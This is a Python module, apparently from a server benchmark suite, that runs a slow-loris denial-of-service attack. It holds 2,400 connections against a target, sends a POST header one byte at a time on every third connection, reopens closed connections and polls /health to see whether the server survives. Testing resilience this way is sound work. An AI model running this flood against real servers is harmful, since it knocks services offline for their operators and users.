"""One client with thousands of connections: `python -m bench.attacks.crowd RUN`.

Of 2,400 connections, two thirds are idle and the others send their request one byte at a time (slow loris). What the
server closes is opened again. They have a process of their own, and the address of the polite client. While this
lasts, the attacker also asks `/health` over and over; `attacker` in the output has the statuses of these answers.
"""

import asyncio
import contextlib
import itertools
import random
import resource
import sys

from bench.attacks import polite

CONNECTIONS = 2400
SLOW = 3
"""Every third connection sends a request, byte by byte."""
OPENED_EACH_SECOND = 800
PAUSE = 10.0
"""Mean time in seconds before a connection is opened again that the server has closed."""
HEAD = b"POST /v1/translate HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\n"


async def hold(host: str, port: int, number: int) -> None:
    """Keep one connection, and open it again some time after the server has closed it."""
    await asyncio.sleep(number / OPENED_EACH_SECOND)
    for _ in itertools.count():
        with contextlib.suppress(*polite.LOST):
            reader, writer = await asyncio.open_connection(host, port)
            ended = asyncio.ensure_future(reader.read())
            rest = iter(HEAD) if number % SLOW == 0 else iter(())
            try:
                while not ended.done():
                    if (byte := next(rest, None)) is not None:
                        writer.write(bytes([byte]))
                    await asyncio.wait([ended], timeout=1.0)
            finally:
                ended.cancel()
                writer.close()
        await asyncio.sleep(random.uniform(0, 2 * PAUSE))


async def crowd(host: str, port: int, seconds: float) -> None:
    """Hold all connections for so long."""
    holding = asyncio.gather(*(hold(host, port, number) for number in range(CONNECTIONS)))
    await asyncio.wait([holding], timeout=seconds)


async def attack(target: polite.Target) -> None:
    """Send the crowd, and ask whether the server is alive."""
    await polite.beside_process(target, "bench.attacks.crowd", "--crowd")


if __name__ == "__main__":
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    if sys.argv[1:2] == ["--crowd"]:
        asyncio.run(crowd(sys.argv[2], int(sys.argv[3]), 120.0))
    else:
        polite.main("crowd", attack)
